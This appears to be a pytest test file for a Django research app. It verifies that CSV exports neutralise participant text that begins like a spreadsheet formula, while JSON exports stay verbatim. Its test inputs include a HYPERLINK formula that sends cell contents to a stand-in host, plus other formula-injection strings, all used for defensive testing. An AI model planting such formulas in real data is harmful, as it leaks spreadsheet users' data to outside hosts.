"""CSV downloads open in spreadsheets: a text cell a user wrote that starts like a formula
(=, +, -, @, a tab or a carriage return) is written with a leading single quote, so the
spreadsheet shows it as text instead of running it. Numbers stay numbers; JSON stays verbatim.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from drawing import services as drawing_services
from drawing.refs import drawn_ref
from experiments import services as experiment_services
from experiments import tasks
from experiments.exports import csv_text
from experiments.models import ClassResult, Experiment
from studies import services
from studies.models import Study

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'
PAGES = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "/builder/", "Home\r=1+1"]
# As a spreadsheet must read them: the last one is quoted whole, so its carriage return
# cannot start a row whose first cell would be a formula.
SAFE_PAGES = ["'" + page for page in PAGES[:6]] + ["/builder/", "Home\r=1+1"]
BAR = [[1.0 if 10 <= column <= 17 else 0.0 for column in range(28)] for _ in range(28)]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def viewed(events: list[dict[str, Any]]) -> list[str]:
    """The pages of the page views (the server records runs and drawings among them)."""
    return [event["page"] for event in events if event["type"] == "page_view"]


@pytest.fixture
def participant_run(alice: Any, study: Study) -> Experiment:
    """Alice in the study, with events on odd pages and a run on a class named like a formula
    whose r is negative."""
    services.participant_join(user=alice, invite_code=study.invite_code)
    now = timezone.now()
    services.events_record(
        user=alice, events=[{"type": "page_view", "client_time": now, "page": p} for p in PAGES]
    )
    drawn = drawing_services.drawn_class_save(user=alice, name=FORMULA, pixels=BAR)
    config = {"classes": [drawn_ref(drawn), "box"], "model": "mlp", "epochs": 2, "seed": 1}
    experiment = experiment_services.experiment_create(
        user=alice, config={**config, "max_steps": 5}
    )
    assert tasks.train_and_visualize(experiment.pk) == "done"
    ClassResult.objects.filter(experiment=experiment, position=0).update(r=-0.5)
    return experiment


def test_csv_text_neutralises_text_cells_only() -> None:
    text = csv_text(
        ["name", "r", "count", "plain"],
        [{"name": "-cmd", "r": -0.5, "count": -3, "plain": "box"}, {"name": "@x", "r": None}],
    )
    first, second = rows(text)
    assert first == {"name": "'-cmd", "r": "-0.5", "count": "-3", "plain": "box"}
    assert second == {"name": "'@x", "r": "", "count": "", "plain": ""}


def test_the_study_csv_export_neutralises_what_participants_wrote(
    staff_api: APIClient, study: Study, participant_run: Experiment
) -> None:
    url = f"/api/v1/studies/{study.pk}/export/csv/"
    events = rows(staff_api.get(url, {"table": "events"}).content.decode())
    assert viewed(events) == SAFE_PAGES
    results = rows(staff_api.get(url, {"table": "results"}).content.decode())
    drawn = next(row for row in results if row["position"] == "0")
    assert drawn["class_name"] == "'" + FORMULA
    assert float(drawn["r"]) == -0.5  # a number, untouched
    # The zip holds the same tables, and the staff console's download is that zip.
    with zipfile.ZipFile(io.BytesIO(staff_api.get(url).content)) as archive:
        zipped = rows(archive.read("events.csv").decode())
    assert viewed(zipped) == SAFE_PAGES


def test_the_study_json_export_stays_verbatim(
    staff_api: APIClient, study: Study, participant_run: Experiment
) -> None:
    document = staff_api.get(f"/api/v1/studies/{study.pk}/export/json/").json()
    assert viewed(document["events"]) == PAGES
    drawn = next(row for row in document["results"] if row["position"] == 0)
    assert drawn["class_name"] == FORMULA and drawn["r"] == -0.5
    assert json.dumps(document)  # plain JSON values


def test_the_experiments_csv_export_neutralises_class_names(
    alice_api: APIClient, participant_run: Experiment
) -> None:
    lines = rows(alice_api.get("/api/v1/experiments/export/csv/").content.decode())
    drawn = next(line for line in lines if line["position"] == "0")
    assert drawn["class_name"] == "'" + FORMULA
    assert float(drawn["r"]) == -0.5
    other = next(line for line in lines if line["position"] == "1")
    assert other["class_name"] == "Box"


def test_the_compare_csv_neutralises_class_names(
    alice: Any, alice_api: APIClient, participant_run: Experiment
) -> None:
    second = experiment_services.experiment_rerun(user=alice, source=participant_run)
    assert tasks.train_and_visualize(second.pk) == "done"
    ids = f"{participant_run.pk},{second.pk}"
    lines = rows(alice_api.get("/api/v1/compare/csv/", {"ids": ids}).content.decode())
    names = {line["class_name"] for line in lines}
    assert names == {"'" + FORMULA, "Box"}
    first_drawn = next(
        line
        for line in lines
        if line["experiment_id"] == str(participant_run.pk) and line["class_name"] != "Box"
    )
    assert float(first_drawn["r"]) == -0.5
